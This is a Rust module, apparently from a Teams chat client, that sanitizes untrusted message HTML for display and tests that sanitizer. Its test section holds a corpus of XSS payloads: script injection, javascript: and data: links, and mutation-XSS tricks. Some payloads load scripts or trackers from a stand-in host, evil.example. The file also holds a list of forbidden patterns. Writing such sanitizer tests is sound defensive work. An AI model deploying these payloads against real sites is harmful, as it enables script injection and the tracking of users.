//! Message HTML is untrusted: anyone in a chat can send any HTML. It is
//! cleaned here, in the core, before it reaches the UI, so that nothing in
//! a message can run script, load a remote resource or restyle the app.
//!
//! The allow-list keeps what Teams messages use: basic formatting, links,
//! lists, quotes, code, tables, mentions (`<at>`) and emoji (`<emoji alt>`).
//! Images are dropped: the webview must never fetch from the network, and
//! Teams' hosted images need an authenticated fetch by the core (later).

use std::collections::{HashMap, HashSet};
use std::sync::OnceLock;

use ammonia::{Builder, UrlRelative};

fn cleaner() -> &'static Builder<'static> {
    static CLEANER: OnceLock<Builder<'static>> = OnceLock::new();
    CLEANER.get_or_init(|| {
        let tags: HashSet<&str> = [
            "a",
            "b",
            "strong",
            "i",
            "em",
            "u",
            "s",
            "strike",
            "del",
            "sub",
            "sup",
            "p",
            "br",
            "div",
            "span",
            "blockquote",
            "code",
            "pre",
            "ul",
            "ol",
            "li",
            "h1",
            "h2",
            "h3",
            "hr",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "at",
            "emoji",
        ]
        .into_iter()
        .collect();
        let tag_attributes: HashMap<&str, HashSet<&str>> = [
            ("a", ["href", "title"].into_iter().collect()),
            ("at", ["id"].into_iter().collect()),
            ("emoji", ["id", "alt", "title"].into_iter().collect()),
            ("td", ["colspan", "rowspan"].into_iter().collect()),
            ("th", ["colspan", "rowspan"].into_iter().collect()),
        ]
        .into_iter()
        .collect();
        let mut builder = Builder::empty();
        builder
            .tags(tags)
            .tag_attributes(tag_attributes)
            .url_schemes(["http", "https", "mailto"].into_iter().collect())
            // A relative link means nothing outside Teams' web app.
            .url_relative(UrlRelative::Deny)
            .link_rel(Some("noopener noreferrer nofollow"))
            .strip_comments(true)
            // Their text content is never shown: script source is not prose.
            .clean_content_tags(["script", "style"].into_iter().collect());
        builder
    })
}

/// Cleans message HTML for display.
pub fn sanitize_message_html(html: &str) -> String {
    cleaner().clean(html).to_string()
}

/// The words of a message without markup, on one line and at most
/// `max_chars` long: for the chat list and notifications, shown as text.
pub fn preview_text(html: &str, max_chars: usize) -> String {
    static STRIPPER: OnceLock<Builder<'static>> = OnceLock::new();
    let stripper = STRIPPER.get_or_init(|| {
        let mut builder = Builder::empty();
        // Keep the words of block elements apart when the tags go.
        builder.clean_content_tags(["script", "style"].into_iter().collect());
        builder
    });
    let spaced = html
        .replace("<br", " <br")
        .replace("</p>", "</p> ")
        .replace("</li>", "</li> ")
        .replace("</div>", "</div> ");
    let escaped = stripper.clean(&spaced).to_string();
    let text = escaped
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&nbsp;", " ")
        .replace("&amp;", "&");
    let mut words = text.split_whitespace().collect::<Vec<_>>().join(" ");
    if let Some((cut, _)) = words.char_indices().nth(max_chars) {
        words.truncate(cut);
        words.push('…');
    }
    words
}

/// A plain-text message as HTML, every character shown as typed.
pub fn plain_text_to_html(text: &str) -> String {
    let mut html = String::with_capacity(text.len() + text.len() / 8);
    for c in text.chars() {
        match c {
            '&' => html.push_str("&amp;"),
            '<' => html.push_str("&lt;"),
            '>' => html.push_str("&gt;"),
            '"' => html.push_str("&quot;"),
            '\'' => html.push_str("&#39;"),
            '\n' => html.push_str("<br>"),
            c => html.push(c),
        }
    }
    html
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn previews_are_the_words_without_markup() {
        assert_eq!(
            preview_text(
                "<p>Hi <at id=\"0\">Bob</at>,</p><p>5 &lt; 6 &amp; <b>bold</b></p>",
                80
            ),
            "Hi Bob, 5 < 6 & bold"
        );
        assert_eq!(preview_text("<script>alert(1)</script>ok", 80), "ok");
        assert_eq!(preview_text("abcdef", 3), "abc…");
        assert_eq!(preview_text("line<br>next", 80), "line next");
    }

    /// Things that must never survive, in any spelling.
    const FORBIDDEN: &[&str] = &[
        "<script",
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "javascript:",
        "data:",
        "vbscript:",
        "<svg",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<meta",
        "<base",
        "<link",
        "<style",
        "style=",
        "<img",
        "srcdoc",
        "<math",
        "formaction",
    ];

    const XSS_CORPUS: &[&str] = &[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><circle r=10 /></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"evil.swf\"></object><embed src=\"evil.swf\">",
        "<form action=\"https://evil.example\"><input name=p><button formaction=javascript:alert(1)>go</button></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<style>body{display:none}</style>",
        "<div style=\"position:fixed;inset:0;background:url(https://evil.example/track)\">cover</div>",
        "<p style=\"background-image:url(javascript:alert(1))\">x</p>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<body onload=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<b onmouseover=alert(1)>bold</b>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    ];

    #[test]
    fn nothing_from_the_xss_corpus_survives() {
        for attack in XSS_CORPUS {
            let clean = sanitize_message_html(attack).to_lowercase();
            for forbidden in FORBIDDEN {
                assert!(
                    !clean.contains(forbidden),
                    "{attack:?} became {clean:?}, which contains {forbidden:?}"
                );
            }
        }
    }

    #[test]
    fn teams_formatting_is_kept() {
        let message = "<p><b>Bold</b>, <em>italic</em>, <u>underlined</u> and <code>code</code></p>\
                       <ul><li>one</li><li>two</li></ul><blockquote>quoted</blockquote>\
                       <pre>let x = 1;</pre><at id=\"0\">Bob Example</at> <emoji id=\"smile\" alt=\"😄\" title=\"Smile\"></emoji>";
        let clean = sanitize_message_html(message);
        for kept in [
            "<b>Bold</b>",
            "<em>italic</em>",
            "<u>underlined</u>",
            "<code>code</code>",
            "<li>two</li>",
            "<blockquote>quoted</blockquote>",
            "<pre>let x = 1;</pre>",
            "<at id=\"0\">Bob Example</at>",
            "alt=\"😄\"",
        ] {
            assert!(clean.contains(kept), "{kept:?} lost from {clean:?}");
        }
    }

    #[test]
    fn links_are_kept_safe_and_never_relative() {
        let clean = sanitize_message_html(
            "<a href=\"https://example.org/doc\" target=\"_top\">doc</a> <a href=\"/relative\">rel</a>",
        );
        assert!(
            clean.contains("href=\"https://example.org/doc\""),
            "{clean}"
        );
        assert!(
            clean.contains("rel=\"noopener noreferrer nofollow\""),
            "{clean}"
        );
        assert!(!clean.contains("target"), "{clean}");
        assert!(!clean.contains("/relative"), "{clean}");
    }

    #[test]
    fn script_text_is_not_shown_as_prose() {
        let clean = sanitize_message_html("hello<script>steal()</script><style>p{}</style>");
        assert_eq!(clean, "hello");
    }

    #[test]
    fn plain_text_shows_exactly_what_was_typed() {
        let html = plain_text_to_html("a < b && <script>x</script>\nnext line");
        assert!(!html.contains("<script>"), "{html}");
        assert!(html.contains("&lt;script&gt;"), "{html}");
        assert_eq!(
            html,
            "a &lt; b &amp;&amp; &lt;script&gt;x&lt;/script&gt;<br>next line"
        );
    }
}
